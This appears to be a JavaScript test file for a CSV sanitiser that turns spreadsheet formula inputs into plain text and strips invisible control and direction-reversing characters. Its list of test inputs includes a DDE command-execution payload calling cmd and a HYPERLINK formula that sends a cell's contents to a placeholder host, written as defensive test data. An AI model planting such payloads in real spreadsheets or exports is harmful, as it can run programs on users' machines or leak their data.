import { stringify } from 'csv-stringify/sync';
import { CSV_OPTIONS } from './csv-options.js';
import { plainCell } from './plain-cell.js';

const FORMULAS = ['=1+1', '+1', '-1+2', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '\t=1', '\r=1', ' =1', '"=1', "'=1", ';=1', ',=1', '|=1', '\u200b=1', '\ufeff=1', '＝1', '＋1', '－1', '＠x', '\u2212 1', '=HYPERLINK("http://x.example?"&A1)'];
const PLAIN = ['Ashdown-Pike', 'C++', 'a = b', 'name@college.example', "O'Hara", 'Zoë', '', '2026-11-24', '3 - 5'];

it.each(FORMULAS)('%j is made plain text', (text) => {
  expect(plainCell(text).startsWith("'")).toBe(true);
  expect(plainCell(text)).not.toMatch(/[\t\r]/);
});

it.each(PLAIN)('%j stays as it is', (text) => {
  expect(plainCell(text)).toBe(text);
});

it('takes out what is not seen: controls and marks that turn the direction of text', () => {
  expect(plainCell('a\u202eb\u0000c\u2066d')).toBe('a b c d');
});

it('the writer quotes what holds a quote, a line break or any separator, keeps numbers and begins with the mark', () => {
  const text = stringify([['a', 'b'], ['x;y', 'say "hi"'], ['two\nlines', -5], ['=1', ' -1']], CSV_OPTIONS);
  expect(text).toBe('\ufeffa,b\r\n"x;y","say ""hi"""\r\n"two\nlines",-5\r\n\'=1,\' -1\r\n');
});
